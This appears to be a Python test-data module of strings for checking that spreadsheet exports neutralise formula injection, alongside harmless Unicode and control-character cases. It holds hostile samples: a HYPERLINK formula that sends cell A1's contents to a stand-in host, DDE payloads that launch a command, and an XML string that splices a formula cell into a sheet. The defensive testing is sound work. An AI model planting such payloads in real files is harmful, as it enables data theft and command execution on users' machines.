"""Texts of forms that a spreadsheet might run as formulas, and harmless ones."""

FORMULAS = [
    '=HYPERLINK("http://bad.example.org?"&A1,"Click")',
    "=1+1",
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
"""A spreadsheet would run these as formulas."""

HIDDEN_FORMULAS = ["tea;=1+1", ";=1+1", "tea\t@SUM(A1)", "tea; +1", "tea ;  -1"]
"""A spreadsheet that splits lines elsewhere would find a formula in these."""

HARMLESS = [
    'He said "hi", twice',
    '"',
    "a, b; c",
    "two\nlines",
    "O'Brien",
    "'quoted from the start",
    "1 = 1",
    " spaces around ",
    "007",
    "1-2",
    "1/2",
    "3e5",
    "0x1F",
    "TRUE",
    "#REF!",
    "NULL",
    "שלום עליכם",
    "\u202eevil\u202c",
    "مرحبا، بكم",
    "李娜",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "👩‍👩‍👧 and 🏳️‍🌈",
    "e\u0301",
    "<b>&amp;</b>",
    "]]>",
    "_x0041_",
    "http://example.org/",
    "mailto:ada@example.org",
    "internal:Sheet1!A1",
    "<r><t>rich</t></r>",
    '<r></r></is></c><c r="K2"><f>1+1</f></c><c r="L2" t="inlineStr"><is><r></r>',
    "{=1+1}",
    "long " * 1000,
]
"""These are what they are."""

CONTROL_CHARACTERS = [
    "a\x01b",
    "bell\x07",
    "\x1b[31mred",
    "form\x0cfeed",
    "\ufffe\uffff",
]
"""XML can't hold these as they are."""
